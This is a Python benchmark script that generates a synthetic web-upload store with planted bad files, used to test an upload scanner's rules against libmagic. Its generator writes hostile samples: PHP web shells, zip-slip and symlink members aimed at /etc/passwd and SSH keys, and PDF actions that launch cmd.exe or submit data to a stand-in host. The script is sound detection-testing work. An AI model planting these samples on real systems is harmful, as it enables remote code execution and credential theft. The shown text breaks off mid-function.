#!/usr/bin/env python3
"""Benchmark of ``pyward scan --uploads`` (UP101-UP110) against ``file --mime-type`` (libmagic).

Usage (from the repository root, after `cargo build --release`):

    python3 bench/uploads_bench.py [--pyward target/release/pyward] [--runs 3] \
        [--files 20000] [--size-mb 1024] [--store DIR] [--seed N] [--no-check] [--json]

What it does:

1. generates a user-upload store, the kind a Django or Flask app keeps under
   ``MEDIA_ROOT``: ``--files`` files (default 20,000) totalling about
   ``--size-mb`` MiB (default 1024), in nested folders (``media/uploads/2024/05/``,
   ``media/avatars/user_1234/``, ``media/products/311/``,
   ``media/cache/thumbs/ab/cd/``, ``media/documents/2023/11/``,
   ``media/exports/``, ``media/attachments/...``), with log-normal sizes per
   kind (most bytes in images and PDFs):
     - JPEG (SOI, APP0 JFIF, DQT, SOF0, DHT, SOS, random entropy-coded data with
       its 0xFF bytes stuffed, EOI; some with a camera EXIF APP1 without GPS),
       PNG (IHDR, IDAT, IEND, correct CRCs), GIF89a, WebP (RIFF/VP8 with a
       correct RIFF size), PDF (text and an image XObject, correct xref), zip
       (the zipfile module), .docx (OOXML zip), plain text, CSV, JSON, SVG, a
       few PNGs saved under .jpg (an image under another image extension: not
       to be reported) and a few empty hidden ``.gitkeep`` files;
     - about 3 % planted bad files, each recorded with the rule that should
       report it:
         UP101  a .jpg that is really HTML, a .jpg that is really PHP
         UP102  an .html page (active content by its extension)
         UP103  an SVG with <script> or an onload= attribute
         UP104  a JPEG with a zip appended (polyglot)
         UP105  a zip with a ``../`` member, a zip with a symlink member
         UP107  a .docm with ``word/vbaProject.bin``
         UP108  a PDF whose /OpenAction is /JavaScript /JS, or /Launch
         UP109  a real JPEG named ``<word>.php.jpg``
         UP110  a JPEG whose EXIF has a GPS IFD (latitude and longitude)
   Everything comes from a ``random.Random(--seed)``: the same store at every
   run. The store goes to a temporary folder, removed at the end, unless
   ``--store DIR`` is given: then it is ``DIR/media`` with its description in
   ``DIR/uploads-bench.json`` (parameters, the kind of every file, the planted
   files), and a later run with the same parameters reuses it. No file is
   larger than 9 MiB (pyward's default --max-file-size is 10 MiB);
2. reads every file once (untimed: warms the page cache), then runs,
   alternating, ``--runs`` times each (default 3), from DIR:
       file --mime-type -f LISTFILE          (every file of the store, one per
                                              line; its output drained)
       pyward scan --no-progress --offline --uploads media --select UP1 \
           --format json -o OUT.json EMPTY_DIR
   (EMPTY_DIR: an empty temporary folder, so that no code is scanned; pyward
   exits 1 when it reports something, which is success here; any other exit
   code but 0 is an error);
3. prints the store's figures (files and bytes per kind), libmagic's view of
   each generated kind (a check of the generator: the MIME types ``file``
   reported, from its first run), pyward's findings per rule, the planted files
   pyward found per kind (a finding of the expected rule at that file: its
   ``path`` ends with the file's path in the store) and those it missed, the
   findings on files that were not planted, the best wall time of each tool and
   the ratio file / pyward;
4. checks the targets, and exits 1 when one fails (``--no-check``: print only)
   or when a tool could not be run:
     - pyward is at least as fast as ``file --mime-type`` (ratio >= 1.0,
       best wall times);
     - pyward finds every planted file.

``--no-pyward`` generates the store and times ``file`` only. ``--json`` also
prints every figure as one JSON object at the end.

Only the Python 3.11 standard library is used.
"""

from __future__ import annotations

import argparse
import datetime as _dt
import io
import json
import math
import os
import platform
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections import Counter, defaultdict
from dataclasses import asdict, dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO_ROOT = HERE.parent

SEED = 20260517
STORE_FORMAT = 1            # bumped whenever the generator changes what it writes
MARKER = "uploads-bench.json"
STORE_NAME = "media"
MIB = 1 << 20
MAX_FILE = 9 * MIB          # below pyward's default --max-file-size (10 MiB)
RATIO_TARGET = 1.0
FILE_BIN = "file"


def log(msg: str) -> None:
    print(f"[uploads-bench] {msg}", file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# Kinds
# --------------------------------------------------------------------------

@dataclass(frozen=True)
class Kind:
    name: str
    median: int        # bytes, log-normal median
    sigma: float
    minimum: int
    scalable: bool     # sizes scaled so that the store reaches --size-mb
    mime: str          # what libmagic is expected to say (the generator's check)
    rule: str | None = None   # planted: the pyward rule that should report it
    what: str = ""


KINDS = {k.name: k for k in [
    # Benign.
    Kind("jpeg", 110_000, 1.0, 3_000, True, "image/jpeg"),
    Kind("png", 60_000, 1.1, 800, True, "image/png"),
    Kind("gif", 20_000, 1.0, 500, True, "image/gif"),
    Kind("webp", 40_000, 0.8, 1_000, True, "image/webp"),
    Kind("pdf", 90_000, 1.2, 2_500, True, "application/pdf"),
    Kind("zip", 150_000, 1.2, 1_500, True, "application/zip"),
    Kind("docx", 30_000, 0.9, 6_000, True, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    Kind("txt", 3_000, 1.0, 100, False, "text/plain"),
    Kind("csv", 12_000, 1.3, 200, False, "text/csv"),
    Kind("json", 6_000, 1.2, 100, False, "application/json"),
    Kind("svg", 5_000, 1.0, 400, False, "image/svg+xml"),
    Kind("png-as-jpg", 60_000, 1.0, 800, True, "image/png"),
    Kind("empty", 0, 0.0, 0, False, "inode/x-empty"),
    # Planted.
    Kind("html-page", 8_000, 0.8, 600, False, "text/html", "UP102", "an .html page"),
    Kind("html-named-image", 3_000, 0.6, 300, False, "text/html", "UP101", "a .jpg that is HTML"),
    Kind("php-named-image", 1_500, 0.6, 100, False, "text/x-php", "UP101", "a .jpg that is PHP"),
    Kind("svg-script", 5_000, 1.0, 400, False, "image/svg+xml", "UP103", "an SVG with <script> or onload="),
    Kind("jpeg-zip-polyglot", 110_000, 1.0, 4_000, True, "image/jpeg", "UP104", "a JPEG with a zip appended"),
    Kind("zip-dotdot", 100_000, 1.0, 1_500, True, "application/zip", "UP105", "a zip with a ../ member"),
    Kind("zip-symlink", 100_000, 1.0, 1_500, True, "application/zip", "UP105", "a zip with a symlink member"),
    Kind("docm-macros", 40_000, 0.8, 8_000, True,   # libmagic does not tell .docm from .docx
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "UP107",
         "a .docm with word/vbaProject.bin"),
    Kind("pdf-js", 90_000, 1.2, 2_500, True, "application/pdf", "UP108", "a PDF with /JavaScript /JS"),
    Kind("pdf-launch", 90_000, 1.2, 2_500, True, "application/pdf", "UP108", "a PDF with /Launch"),
    Kind("double-extension", 110_000, 1.0, 3_000, True, "image/jpeg", "UP109", "a JPEG named x.php.jpg"),
    Kind("jpeg-gps", 110_000, 1.0, 3_000, True, "image/jpeg", "UP110", "a JPEG with GPS EXIF"),
]}

# Share of the benign files (by count), normalised.
BENIGN_WEIGHTS = {"jpeg": 0.40, "png": 0.14, "gif": 0.03, "webp": 0.07, "pdf": 0.10, "zip": 0.02, "docx": 0.04,
                  "txt": 0.04, "csv": 0.04, "json": 0.03, "svg": 0.05, "png-as-jpg": 0.003}
# Planted files per file of the store (at least one of each).
PLANTED_RATES = {"html-page": 0.003, "html-named-image": 0.002, "php-named-image": 0.002, "svg-script": 0.002,
                 "jpeg-zip-polyglot": 0.002, "zip-dotdot": 0.0015, "zip-symlink": 0.0015, "docm-macros": 0.002,
                 "pdf-js": 0.002, "pdf-launch": 0.0015, "double-extension": 0.002, "jpeg-gps": 0.010}
HIDDEN_EMPTY = 3

WORDS = ("the order invoice customer payment shipping address product review photo profile account report "
         "summary quarter revenue total item price quantity delivery status pending approved refund note "
         "meeting project design draft final version update team contact support service request ticket "
         "warehouse stock return policy terms privacy newsletter campaign event booking guest room city "
         "market sales growth budget plan schedule vendor contract signed page section table figure data "
         "and of to in for with on by from at as is are was be this that will please thank you regards").split()
FIRST = "Anna Ben Chloe David Emma Felix Grace Hugo Ines Jonas Karin Liam Mona Noah Olga Paul Rosa Sam Tara Ugo".split()
LAST = "Meyer Dubois Rossi Silva Novak Jensen Kowalski Horvat Costa Berg Laurent Weber Fischer Moreau Garcia".split()
CITIES = "Lyon Porto Graz Ghent Turku Brno Bilbao Utrecht Malmo Bergen Kassel Parma Split Cork Tartu".split()
REL_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
SUSPECT_WORDS = ("shell", "cmd", "image", "avatar", "upload", "photo", "profile", "test", "info", "c99", "wso")


@dataclass
class Item:
    rel: str           # path inside the store, '/'-separated
    kind: str
    size: int          # bytes: planned, then the generated file's
    rule: str | None   # planted: the rule that should report it


# --------------------------------------------------------------------------
# Plan: names, folders, sizes
# --------------------------------------------------------------------------

class Namer:
    def __init__(self, rng: random.Random):
        self.r = rng
        self.used: set[str] = set()

    def date(self) -> tuple[int, int, int]:
        y = self.r.choices(range(2019, 2026), weights=(1, 2, 3, 4, 6, 8, 9))[0]
        return y, self.r.randint(1, 12), self.r.randint(1, 28)

    def hexs(self, n: int) -> str:
        return "%0*x" % (n, self.r.getrandbits(4 * n))

    def slug(self, k: int = 2) -> str:
        return "-".join(self.r.choice(WORDS[:60]) for _ in range(k))

    def unique(self, rel: str) -> str:
        base, dot, ext = rel.rpartition(".")
        if "/" in ext or not dot:
            base, ext = rel, ""
        n, cand = 1, rel
        while cand in self.used:
            n += 1
            cand = f"{base}_{n}.{ext}" if ext else f"{base}_{n}"
        self.used.add(cand)
        return cand

    def image_name(self, ext: str) -> str:
        y, m, d = self.date()
        t = f"{self.r.randint(0, 23):02}{self.r.randint(0, 59):02}{self.r.randint(0, 59):02}"
        pick = self.r.random()
        if ext in ("png", "webp", "gif") and pick < 0.25:
            return f"Screenshot {y}-{m:02}-{d:02} at {t[:2]}.{t[2:4]}.{t[4:]}.{ext}"
        if pick < 0.35:
            return f"IMG_{y}{m:02}{d:02}_{t}.{'JPG' if ext == 'jpg' and self.r.random() < 0.3 else ext}"
        if pick < 0.45:
            return f"PXL_{y}{m:02}{d:02}_{t}{self.r.randint(100, 999)}.{ext}"
        if pick < 0.55:
            return f"DSC_{self.r.randint(1, 9999):04}.{ext.upper() if self.r.random() < 0.5 else ext}"
        if pick < 0.75:
            return f"{self.hexs(32)}.{'jpeg' if ext == 'jpg' and self.r.random() < 0.2 else ext}"
        return f"{self.slug()}-{self.r.randint(1, 999)}.{ext}"

    def image_path(self, ext: str, small: bool = False) -> str:
        y, m, _ = self.date()
        pick = self.r.random()
        if small or pick < 0.10:
            return f"cache/thumbs/{self.hexs(2)}/{self.hexs(2)}/{self.hexs(32)}.{ext}"
        if pick < 0.65:
            return f"uploads/{y}/{m:02}/{self.image_name(ext)}"
        if pick < 0.80:
            return f"avatars/user_{self.r.randint(1, 40000)}/{self.hexs(8)}.{ext}"
        return f"products/{self.r.randint(1, 2500)}/{self.slug()}-{self.r.randint(1, 12)}.{ext}"

    def doc_path(self, ext: str) -> str:
        y, m, _ = self.date()
        stem = self.r.choice([f"invoice-{y}-{self.r.randint(1, 99999):05}", f"statement_{y}{m:02}",
                              f"report-{self.slug()}",
                              f"cv_{self.r.choice(FIRST).lower()}_{self.r.choice(LAST).lower()}",
                              f"contract-{self.hexs(8)}", f"{self.slug(3)}"])
        folder = self.r.choice([f"documents/{y}/{m:02}", f"attachments/{y}/{m:02}/{self.hexs(6)}", f"documents/{y}"])
        return f"{folder}/{stem}.{ext}"

    def path(self, kind: str) -> str:
        r = self.r
        y, m, _ = self.date()
        if kind in ("jpeg", "jpeg-gps", "jpeg-zip-polyglot"):
            rel = self.image_path("jpg", small=kind == "jpeg" and r.random() < 0.08)
        elif kind in ("png", "gif", "webp"):
            rel = self.image_path(kind)
        elif kind == "png-as-jpg":
            rel = self.image_path("jpg")
        elif kind in ("pdf", "pdf-js", "pdf-launch"):
            rel = self.doc_path("pdf")
        elif kind in ("docx",):
            rel = self.doc_path("docx")
        elif kind == "docm-macros":
            rel = self.doc_path("docm")
        elif kind in ("zip", "zip-dotdot", "zip-symlink"):
            stem = r.choice(["photos", "backup", "export", "scans", "assets"])
            rel = f"attachments/{y}/{m:02}/{self.hexs(6)}/{stem}-{y}{m:02}.zip"
        elif kind == "txt":
            rel = f"attachments/{y}/{m:02}/{self.hexs(6)}/{r.choice(['notes', 'readme', 'message', 'log', 'todo'])}.txt"
        elif kind == "csv":
            stem = r.choice(["orders", "customers", "stock", "payouts"])
            rel = f"exports/{y}/{stem}-{y}{m:02}{r.randint(1, 28):02}.csv"
        elif kind == "json":
            rel = f"exports/{y}/{r.choice(['orders', 'events', 'settings', 'catalog'])}-{self.hexs(6)}.json"
        elif kind in ("svg", "svg-script"):
            rel = r.choice([f"icons/{self.slug(1)}-{r.randint(1, 500)}.svg", f"uploads/{y}/{m:02}/{self.slug()}.svg",
                            f"products/{r.randint(1, 2500)}/logo.svg"])
        elif kind == "html-page":
            rel = f"attachments/{y}/{m:02}/{self.hexs(6)}/{r.choice(['newsletter', 'page', 'export', 'invoice'])}.html"
        elif kind in ("html-named-image", "php-named-image"):
            rel = r.choice([f"avatars/user_{r.randint(1, 40000)}/{r.choice(SUSPECT_WORDS)}.jpg",
                            f"uploads/{y}/{m:02}/{self.image_name('jpg')}"])
        elif kind == "double-extension":
            rel = f"uploads/{y}/{m:02}/{r.choice(SUSPECT_WORDS)}{r.choice(['', str(r.randint(1, 99))])}.php.jpg"
        elif kind == "empty":
            rel = r.choice(["uploads", "avatars", "cache/thumbs", "documents", "exports"]) + "/.gitkeep"
        else:
            raise ValueError(kind)
        return self.unique(rel)


def counts_for(files: int) -> dict[str, int]:
    planted = {k: max(1, round(files * rate)) for k, rate in PLANTED_RATES.items()}
    n_benign = files - sum(planted.values()) - HIDDEN_EMPTY
    if n_benign < len(BENIGN_WEIGHTS):
        raise SystemExit(f"--files {files} is too small (at least {files - n_benign + 50})")
    total_w = sum(BENIGN_WEIGHTS.values())
    exact = {k: n_benign * w / total_w for k, w in BENIGN_WEIGHTS.items()}
    benign = {k: max(1, int(v)) for k, v in exact.items()}
    for k in sorted(exact, key=lambda k: exact[k] - int(exact[k]), reverse=True):
        if sum(benign.values()) >= n_benign:
            break
        benign[k] += 1
    while sum(benign.values()) > n_benign:     # the max(1, ...) of tiny stores
        benign["jpeg"] -= 1
    return {**benign, "empty": HIDDEN_EMPTY, **planted}


def plan_store(files: int, size_mb: float, seed: int) -> list[Item]:
    rng = random.Random(seed)
    namer = Namer(rng)
    kinds = [k for k, n in counts_for(files).items() for _ in range(n)]
    rng.shuffle(kinds)
    items = []
    for kind in kinds:
        k = KINDS[kind]
        size = 0 if kind == "empty" else max(k.minimum, int(rng.lognormvariate(math.log(k.median), k.sigma)))
        items.append(Item(namer.path(kind), kind, size, k.rule))
    for it in items:
        if it.rel.startswith("cache/thumbs/"):
            it.size = max(KINDS[it.kind].minimum, it.size // 8)
    # Scale the scalable kinds so that the total reaches --size-mb.
    target = int(size_mb * MIB)
    base = {id(it): it.size for it in items}
    fixed = sum(it.size for it in items if not KINDS[it.kind].scalable)
    factor = 1.0
    for _ in range(8):
        scal = [it for it in items if KINDS[it.kind].scalable]
        for it in scal:
            it.size = min(MAX_FILE, max(KINDS[it.kind].minimum, int(base[id(it)] * factor)))
        got = fixed + sum(it.size for it in scal)
        if abs(got - target) < target * 0.002:
            break
        free = sum(it.size for it in scal if KINDS[it.kind].minimum < it.size < MAX_FILE)
        if free <= 0:
            break
        factor *= max(0.05, 1 + (target - got) / free)
    return items


# --------------------------------------------------------------------------
# Content
# --------------------------------------------------------------------------

def _seg(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _png_chunk(typ: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + typ + data + struct.pack(">I", zlib.crc32(data, zlib.crc32(typ)))


def _ifd(entries: list[tuple[int, int, int, bytes]], start: int, e: str, next_ifd: int = 0) -> bytes:
    """One TIFF IFD at offset ``start``: entries (tag, type, count, value bytes), values over 4 bytes after it."""
    entries = sorted(entries)
    head = struct.pack(e + "H", len(entries))
    data = b""
    data_off = start + 2 + 12 * len(entries) + 4
    for tag, typ, count, val in entries:
        if len(val) <= 4:
            head += struct.pack(e + "HHI", tag, typ, count) + val.ljust(4, b"\0")
        else:
            head += struct.pack(e + "HHII", tag, typ, count, data_off + len(data))
            data += val + (b"\0" if len(val) % 2 else b"")
    return head + struct.pack(e + "I", next_ifd) + data


def _ascii(s: str) -> tuple[int, int, bytes]:
    b = s.encode() + b"\0"
    return 2, len(b), b


def _dms(value: float, e: str) -> bytes:
    """Degrees, minutes, seconds as three EXIF RATIONALs."""
    value = abs(value)
    deg = int(value)
    minutes = int((value - deg) * 60)
    sec100 = round(((value - deg) * 60 - minutes) * 60 * 100)
    return struct.pack(e + "IIIIII", deg, 1, minutes, 1, sec100, 100)


def exif_app1(make: str, model: str, when: str, gps: tuple[float, float] | None, big_endian: bool) -> bytes:
    """An APP1 Exif segment: IFD0 (Make, Model, Orientation, DateTime[, GPSInfo]) and a GPS IFD."""
    e = ">" if big_endian else "<"
    tiff_head = (b"MM" if big_endian else b"II") + struct.pack(e + "HI", 42, 8)
    ifd0 = [(0x010F, *_ascii(make)), (0x0110, *_ascii(model)), (0x0112, 3, 1, struct.pack(e + "H", 1)),
            (0x0132, *_ascii(when))]
    if gps is None:
        tiff = tiff_head + _ifd(ifd0, 8, e)
    else:
        lat, lon = gps
        probe = _ifd(ifd0 + [(0x8825, 4, 1, b"\0\0\0\0")], 8, e)
        gps_off = 8 + len(probe)
        ifd0_bytes = _ifd(ifd0 + [(0x8825, 4, 1, struct.pack(e + "I", gps_off))], 8, e)
        gps_ifd = _ifd([
            (0x0000, 1, 4, bytes([2, 3, 0, 0])),                         # GPSVersionID
            (0x0001, *_ascii("N" if lat >= 0 else "S")),                  # GPSLatitudeRef
            (0x0002, 5, 3, _dms(lat, e)),                                 # GPSLatitude
            (0x0003, *_ascii("E" if lon >= 0 else "W")),                  # GPSLongitudeRef
            (0x0004, 5, 3, _dms(lon, e)),                                 # GPSLongitude
            (0x0005, 1, 1, b"\0"),                                        # GPSAltitudeRef
            (0x0006, 5, 1, struct.pack(e + "II", 12_345, 100)),           # GPSAltitude
        ], gps_off, e)
        tiff = tiff_head + ifd0_bytes + gps_ifd
    return _seg(0xE1, b"Exif\0\0" + tiff)


_DQT = _seg(0xDB, b"\x00" + bytes(range(1, 65)))
_DHT = _seg(0xC4, b"\x00" + bytes([0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]) + bytes(range(12)))
_SOS = _seg(0xDA, bytes([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 63, 0]))
_APP0 = _seg(0xE0, b"JFIF\0" + bytes([1, 1, 0, 0, 1, 0, 1, 0, 0]))
CAMERAS = [("Apple", "iPhone 13"), ("Apple", "iPhone 15 Pro"), ("samsung", "SM-S911B"), ("Google", "Pixel 7"),
           ("Canon", "Canon EOS 250D"), ("NIKON CORPORATION", "NIKON D7500"), ("SONY", "ILCE-7M3")]


class Content:
    """The bytes of each kind, from one seeded generator."""

    def __init__(self, seed: int):
        self.r = random.Random(seed)

    def rb(self, n: int) -> bytes:
        return self.r.randbytes(max(0, n))

    def words(self, n: int) -> str:
        return " ".join(self.r.choices(WORDS, k=n))

    def dims(self) -> tuple[int, int]:
        w = self.r.choice([320, 480, 640, 800, 1024, 1080, 1280, 1600, 1920, 2048, 3024, 4032])
        return w, int(w * self.r.choice([0.5625, 0.75, 1.0, 1.333, 0.667]))

    def when(self) -> str:
        return (f"{self.r.randint(2019, 2025)}:{self.r.randint(1, 12):02}:{self.r.randint(1, 28):02} "
                f"{self.r.randint(0, 23):02}:{self.r.randint(0, 59):02}:{self.r.randint(0, 59):02}")

    # Images ------------------------------------------------------------------
    def jpeg(self, size: int, app1: bytes = b"") -> bytes:
        w, h = self.dims()
        sof = _seg(0xC0, struct.pack(">BHHB", 8, h, w, 3) + bytes([1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]))
        head = b"\xff\xd8" + _APP0 + app1 + _DQT + sof + _DHT + _SOS
        n = max(64, size - len(head) - 2)
        body = self.rb(n - n // 256).replace(b"\xff", b"\xff\x00")   # stuffed, as entropy-coded data is
        return head + body + b"\xff\xd9"

    def camera_jpeg(self, size: int, gps: bool) -> bytes:
        make, model = self.r.choice(CAMERAS)
        pos = None
        if gps:
            lat, lon = 0.0, 0.0
            while abs(lat) < 0.01 and abs(lon) < 0.01:
                lat, lon = self.r.uniform(-55, 70), self.r.uniform(-170, 175)
            pos = (lat, lon)
        return self.jpeg(size, exif_app1(make, model, self.when(), pos, big_endian=make == "Apple"))

    def png(self, size: int) -> bytes:
        w, h = self.dims()
        ihdr = struct.pack(">IIBBBBB", w, h, 8, self.r.choice([2, 6]), 0, 0, 0)   # RGB or RGBA, 8 bits
        out = [b"\x89PNG\r\n\x1a\n", _png_chunk(b"IHDR", ihdr)]
        if self.r.random() < 0.3:
            out.append(_png_chunk(b"tEXt", b"Software\0" + self.r.choice([b"GIMP 2.10", b"Adobe ImageReady", b"Skia"])))
        n = max(16, size - 8 - 25 - 12)
        data = b"\x78\x9c" + self.rb(n - 2 - 12 * (n // 65536))
        for i in range(0, len(data), 65536):
            out.append(_png_chunk(b"IDAT", data[i:i + 65536]))
        out.append(_png_chunk(b"IEND", b""))
        return b"".join(out)

    def gif(self, size: int) -> bytes:
        w, h = self.dims()
        head = b"GIF89a" + struct.pack("<HHBBB", w, h, 0xF7, 0, 0) + self.rb(768)
        desc = b"\x2c" + struct.pack("<HHHHB", 0, 0, w, h, 0) + b"\x08"
        n = max(1, size - len(head) - len(desc) - 2)
        data = self.rb(n - n // 256)
        blocks = b"".join(bytes([len(data[i:i + 255])]) + data[i:i + 255] for i in range(0, len(data), 255))
        return head + desc + blocks + b"\x00\x3b"

    def webp(self, size: int) -> bytes:
        w, h = self.dims()
        n = max(16, size - 20)
        tag = 0x10 | min(n // 4, (1 << 19) - 1) << 5      # key frame, version 0, shown; first partition size
        frame = struct.pack("<I", tag)[:3] + b"\x9d\x01\x2a" + struct.pack("<HH", w & 0x3FFF, h & 0x3FFF)
        payload = frame + self.rb(n - len(frame))
        pad = b"\0" if len(payload) % 2 else b""
        chunk = b"VP8 " + struct.pack("<I", len(payload)) + payload + pad
        return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk

    # Documents ---------------------------------------------------------------
    def pdf(self, size: int, action: str | None = None) -> bytes:
        """A text PDF (Helvetica), an image XObject (DCT) taking the rest of ``size``, a correct xref."""
        lines = []
        for _ in range(self.r.randint(8, 40)):
            t = self.words(self.r.randint(4, 12)).replace("\\", "").replace("(", "").replace(")", "")
            lines.append(f"({t}) Tj T*")
        text = ("BT /F1 11 Tf 72 770 Td 14 TL\n" + "\n".join(lines)
                + "\nET\nq 300 0 0 200 72 300 cm /Im1 Do Q\n").encode()
        objs = {
            1: b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 8 0 R" if action else b"") + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> "
               b"/XObject << /Im1 6 0 R >> >> /Contents 5 0 R >>",
            4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            5: b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
            7: b"<< /Producer (LibreOffice 7.4) /Creator (Writer) /CreationDate (D:%s) >>"
               % self.when().replace(":", "").replace(" ", "").encode(),
        }
        if action == "js":
            objs[8] = (b"<< /Type /Action /S /JavaScript /JS (app.alert\\({cMsg: 'Please enable content'}\\); "
                       b"this.submitForm\\('https://collect.example.invalid/f'\\);) >>")
        elif action == "launch":
            objs[8] = (b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c start invoice.exe) >> "
                       b"/F (invoice.exe) >>")
        img_len = max(200, size - 1200 - len(text) - (200 if action else 0))
        img = self.jpeg(img_len)
        w, h = self.dims()
        objs[6] = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                   b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n" % (w, h, len(img))
                   + img + b"\nendstream")
        out = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
        pos = len(out[0])
        offsets = {}
        for num in sorted(objs):
            offsets[num] = pos
            piece = b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
            out.append(piece)
            pos += len(piece)
        n = max(objs) + 1
        xref = [b"xref\n0 %d\n0000000000 65535 f \n" % n]
        xref += [b"%010d 00000 n \n" % offsets[i] if i in offsets else b"0000000000 65535 f \n" for i in range(1, n)]
        out += xref
        out.append(b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (n, pos))
        return b"".join(out)

    def _zinfo(self, name: str, compress: int) -> zipfile.ZipInfo:
        zi = zipfile.ZipInfo(name, date_time=(self.r.randint(2019, 2025), self.r.randint(1, 12), self.r.randint(1, 28),
                                              self.r.randint(0, 23), self.r.randint(0, 59), 0))
        zi.compress_type = compress
        zi.external_attr = 0o100644 << 16     # a regular file, rw-r--r--, as Info-ZIP writes it
        return zi

    def zip(self, size: int, unsafe: str | None = None) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(self._zinfo("README.txt", zipfile.ZIP_DEFLATED), self.words(self.r.randint(20, 200)))
            if unsafe == "dotdot":
                zi = self._zinfo(self.r.choice(["../../../../var/www/html/static/x.php", "../app/settings.py",
                                                "photos/../../../etc/cron.d/job"]), zipfile.ZIP_DEFLATED)
                z.writestr(zi, "<?php system($_GET['c']); ?>\n" if zi.filename.endswith(".php") else "DEBUG = True\n")
            elif unsafe == "symlink":
                zi = self._zinfo(self.r.choice(["photos/cover.jpg", "link", "export/data.csv"]), zipfile.ZIP_STORED)
                zi.create_system = 3
                zi.external_attr = (0o120777 << 16)
                z.writestr(zi, self.r.choice(["/etc/passwd", "../../../../home/app/.ssh/id_rsa", "/proc/self/environ"]))
            members = self.r.randint(1, 6)
            budget = max(100, size - 400 - 120 * members)
            for i in range(members):
                part = budget // members
                z.writestr(self._zinfo(f"photos/IMG_{self.r.randint(1000, 9999)}_{i}.jpg", zipfile.ZIP_STORED),
                           self.jpeg(part))
        return buf.getvalue()

    def polyglot(self, size: int) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(self._zinfo(self.r.choice(["shell.php", "x.php", "payload/index.php"]), zipfile.ZIP_DEFLATED),
                       "<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>\n")
            z.writestr(self._zinfo("readme.txt", zipfile.ZIP_DEFLATED), self.words(30))
        tail = buf.getvalue()
        return self.jpeg(max(1000, size - len(tail))) + tail

    def docx(self, size: int, macros: bool = False) -> bytes:
        main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macros else
                   "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
        ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              '<Default Extension="xml" ContentType="application/xml"/>'
              '<Default Extension="jpeg" ContentType="image/jpeg"/>'
              + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macros else "")
              + f'<Override PartName="/word/document.xml" ContentType="{main_ct}"/>'
              '<Override PartName="/docProps/core.xml" '
              'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
              '</Types>')
        rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{REL_OFFICE}/officeDocument" Target="word/document.xml"/>'
                f'<Relationship Id="rId2" Type="{REL_PACKAGE}/metadata/core-properties" Target="docProps/core.xml"/>'
                '</Relationships>')
        paras = "".join(f"<w:p><w:r><w:t>{self.words(self.r.randint(8, 40))}</w:t></w:r></w:p>"
                        for _ in range(self.r.randint(5, 60)))
        doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
               + paras + "</w:body></w:document>")
        doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId5" Type="{REL_OFFICE}/image" Target="media/image1.jpeg"/>'
                    + (f'<Relationship Id="rId9" Type="{REL_VBA}" Target="vbaProject.bin"/>'
                       if macros else "") + "</Relationships>")
        core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
                'xmlns:dc="http://purl.org/dc/elements/1.1/">'
                f"<dc:creator>{self.r.choice(FIRST)} {self.r.choice(LAST)}</dc:creator></cp:coreProperties>")
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for name, text in (("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
                               ("word/_rels/document.xml.rels", doc_rels), ("docProps/core.xml", core)):
                z.writestr(self._zinfo(name, zipfile.ZIP_DEFLATED), text)
            if macros:
                vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + self.rb(self.r.randint(12_000, 40_000))
                z.writestr(self._zinfo("word/vbaProject.bin", zipfile.ZIP_DEFLATED), vba)
            z.writestr(self._zinfo("word/media/image1.jpeg", zipfile.ZIP_STORED),
